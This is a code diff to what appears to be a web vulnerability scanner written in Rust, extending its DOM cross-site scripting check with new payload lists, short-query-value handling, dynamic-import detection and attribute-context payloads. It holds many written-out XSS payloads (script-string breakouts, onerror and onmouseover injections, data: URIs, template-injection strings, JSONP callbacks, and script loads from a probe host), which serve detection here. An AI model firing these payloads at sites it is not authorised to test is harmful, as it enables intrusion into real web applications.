@@ -10,6 +10,8 @@ use regex::Regex;
 use self::source::sign;
 pub(super) use self::source::{Source, bundles, sources, with_all};
 use super::{scripts, seen_before};
+use crate::checks::injection::facts::facts;
+use crate::checks::injection::xss::context::{Context, InScript, Value, contexts};
 use crate::checks::{About, Bench, Check, Entry};
 use crate::http::encode;
 use crate::point::{Place, Point};
@@ -63,28 +65,42 @@ const HTML: &[&str] = &[
     "<scr<script>ipt>alert('{M}')</scr</script>ipt><im<img>g src=x oonerrornerror=alert('{M}')>",
 ];
 const SCRIPT: &[&str] = &[
-    "alert('{M}')",
-    "');alert('{M}');//",
-    "\");alert('{M}');//",
-    "';alert('{M}');//",
-    "\";alert('{M}');//",
-    "'-alert('{M}')-'",
-    "\"-alert('{M}')-\"",
-    "1;alert('{M}')",
-    ")}};alert('{M}');//",
-    "\\');alert('{M}');//",
-    "${alert('{M}')}",
-    "<%alert('{M}')%>",
-    "\\\"-alert('{M}')}//",
-    "\"-alert('{M}')}//",
-    "\\\";alert('{M}');//",
-    "`-alert('{M}')-`",
+    "alert({M})",
+    "');alert({M});//",
+    "\");alert({M});//",
+    "';alert({M});//",
+    "\";alert({M});//",
+    "'-alert({M})-'",
+    "\"-alert({M})-\"",
+    "1;alert({M})",
+    ")}};alert({M});//",
+    "\\');alert({M});//",
+    "${alert({M})}",
+    "<%alert({M})%>",
+    "\\\"-alert({M})}//",
+    "\"-alert({M})}//",
+    "\\\";alert({M});//",
+    "`-alert({M})-`",
 ];
 /// What selects elements in libraries that make elements of markup.
 const SELECTOR: &[&str] = &["<img src=x onerror=alert('{M}')>", "#<img src=x onerror=alert('{M}')>"];
 /// What is loaded as a script.
-const LOADED: &[&str] =
-    &["data:text/javascript,alert('{M}')", "data:text/javascript,alert('{M}')//.js", "data:,alert('{M}')//"];
+const LOADED: &[&str] = &[
+    "data:text/javascript,alert('{M}')",
+    "//r{M}.redoubt-probe.example/",
+    "data:text/javascript,alert('{M}')//.js",
+    "data:,alert('{M}')//",
+    "https://r{M}.redoubt-probe.example/",
+    "@r{M}.redoubt-probe.example/",
+];
+/// What goes on with an address of the site's own from which a script is loaded that calls what it is told to.
+const CALLED: &[&str] = &["alert('{M}')//", "&callback=alert('{M}')//"];
+/// What is fetched to be shown.
+const FETCHED: &[&str] = &[
+    "data:text/html,<img src=x onerror=alert('{M}')>",
+    "//r{M}.redoubt-probe.example/",
+    "https://r{M}.redoubt-probe.example/",
+];
 /// What template libraries that read the finished page compute; the first is for most, the others for old ones.
 const TEMPLATE: &[&str] = &[
     "{{constructor.constructor('alert(/{M}/)')()}}",
@@ -108,6 +124,8 @@ fn payloads(sinks: &BTreeSet<String>) -> Vec<&'static str> {
         ("selector", SELECTOR),
         ("script", SCRIPT),
         ("loaded", LOADED),
+        ("fetched", FETCHED),
+        ("called", CALLED),
         ("url", URL),
         ("attribute", URL),
         ("attribute", SCRIPT),
@@ -135,7 +153,51 @@ impl Check for DomXss {
         }
         let own = own(entry, bench.entries);
         let sources = sources(entry, &text, &own);
-        (!sources.is_empty()).then(|| test(bench, entry, sources, text, own).boxed())
+        let short = short_values(entry, &own);
+        (!sources.is_empty() || !short.is_empty())
+            .then(|| async { with_short(bench, entry, sources, short, text, own).await }.boxed())
+    }
+}
+
+/// Fields of the query whose usual value is too short to be told in a script, where scripts make text to markup or code.
+fn short_values(entry: &Entry, own: &str) -> Vec<Point> {
+    let makes = [
+        "eval(",
+        "innerHTML",
+        "outerHTML",
+        ".write(",
+        ".writeln(",
+        "insertAdjacentHTML",
+        "Function(",
+        ".html(",
+    ];
+    if !makes.iter().any(|word| own.contains(word)) {
+        return Vec::new();
+    }
+    let points = entry.request.points().into_iter();
+    points.filter(|point| matches!(point.place, Place::Query(_)) && point.value.len() < 3).take(4).collect()
+}
+
+/// Tests sources, and short values that the server writes into strings of scripts.
+async fn with_short(
+    bench: &Bench<'_>,
+    entry: &Entry,
+    mut sources: Vec<Source>,
+    short: Vec<Point>,
+    text: String,
+    own: String,
+) {
+    for point in short {
+        let is_written =
+            |place: &Context| matches!(place, Context::Script(InScript::Text(_) | InScript::Template));
+        let known = facts(bench, entry, &point).await;
+        let source = Source::of_query(point);
+        if known.is_some_and(|known| known.contexts.iter().any(is_written)) && !sources.contains(&source) {
+            sources.push(source);
+        }
+    }
+    if !sources.is_empty() {
+        test(bench, entry, sources, text, own).await;
     }
 }
 
@@ -200,6 +262,13 @@ fn navigates(text: &str) -> bool {
     GOES.as_ref().is_some_and(|goes| goes.is_match(text))
 }
 
+/// Whether scripts import modules from addresses that they make.
+fn imports(text: &str) -> bool {
+    static IMPORTS: LazyLock<Option<Regex>> =
+        LazyLock::new(|| Regex::new(r"\bimport\s*\(\s*(?:[A-Za-z_$]|`\$)").ok());
+    IMPORTS.as_ref().is_some_and(|imports| imports.is_match(text))
+}
+
 /// What a visit told of the sinks that a text reached: the sink, and what arrived.
 fn reached<'t>(told: &'t [String], what: &str) -> Vec<(&'t str, &'t str)> {
     let lines = told.iter().filter_map(|line| line.strip_prefix("sink:")?.split_once('\u{1}'));
@@ -238,6 +307,9 @@ async fn test(bench: &Bench<'_>, entry: &Entry, sources: Vec<Source>, text: Stri
     }
     if navigates(&own) {
         by_running(bench, entry, (bundles.as_slice(), proven.as_slice()), URL).await;
+    }
+    if imports(&own) {
+        by_running(bench, entry, (bundles.as_slice(), proven.as_slice()), LOADED).await;
     }
     if has_templates(entry, &text) {
         by_running(bench, entry, (bundles.as_slice(), proven.as_slice()), TEMPLATE).await;
@@ -291,9 +363,23 @@ async fn arrivals<'s>(
     let value = |n| format!("{CANARY}{}", sign(n));
     let visit = with_all(&entry.request, bundle, value);
     let told = opener.open(&bench.session.dress(&visit), &["sinks"]).await;
-    let sinks = |n| reached(&told, &value(n)).into_iter().map(|(sink, _)| sink.to_owned()).collect();
+    let sinks = |n| {
+        let kind = |(sink, arrived): (&str, &str)| match sink {
+            "loaded" if !is_at_host(arrived) => "called".to_owned(),
+            _ => sink.to_owned(),
+        };
+        reached(&told, &value(n)).into_iter().map(kind).collect()
+    };
     let all = bundle.iter().enumerate().map(|(n, source)| (*source, sinks(n)));
     all.filter(|(_, sinks): &(_, BTreeSet<String>)| !sinks.is_empty()).collect()
+}
+
+/// Whether the canary begins an address, or stands where its host does.
+fn is_at_host(address: &str) -> bool {
+    let address = address.trim_start().to_ascii_lowercase();
+    let rest = ["https://", "http://", "//"].iter().find_map(|start| address.strip_prefix(start));
+    let before = rest.unwrap_or(&address).split(CANARY).next().unwrap_or_default();
+    !before.contains(['/', '?', '#'])
 }
 
 /// The payloads that are worth a try: where signs of markup arrive as something else, those that need them are not.
@@ -312,8 +398,32 @@ async fn payloads_for(
             .iter()
             .any(|(sink, value)| *sink == "html" && value.to_ascii_lowercase().contains("<z"));
         all.retain(|payload| stays || !payload.contains('<') || !HTML.contains(payload));
+        if !stays {
+            let values = reached(&told, CANARY).into_iter().filter(|(sink, _)| *sink == "html");
+            let places =
+                values.flat_map(|(_, value)| contexts(value, CANARY)).flat_map(|place| within(&place));
+            let more: BTreeSet<&str> = places.filter(|payload| !all.contains(payload)).collect();
+            all.splice(0..0, more);
+        }
     }
     all
+}
+
+/// What runs at a place of markup without any markup of its own.
+fn within(place: &Context) -> Vec<&'static str> {
+    let Context::Attribute { quote, kind } = place else { return Vec::new() };
+    let out = match quote {
+        Some('"') => "\" onmouseover=alert({M}) x=\"",
+        Some(_) => "' onmouseover=alert({M}) x='",
+        None => "x onmouseover=alert({M}) x=",
+    };
+    let mut list = match kind {
+        Value::Script(_) => SCRIPT.to_vec(),
+        Value::Url => URL.to_vec(),
+        _ => Vec::new(),
+    };
+    list.push(out);
+    list
 }
 
 /// Where a script goes to an address that a source gives, or has the page read as a template, no hook sees it: payloads in
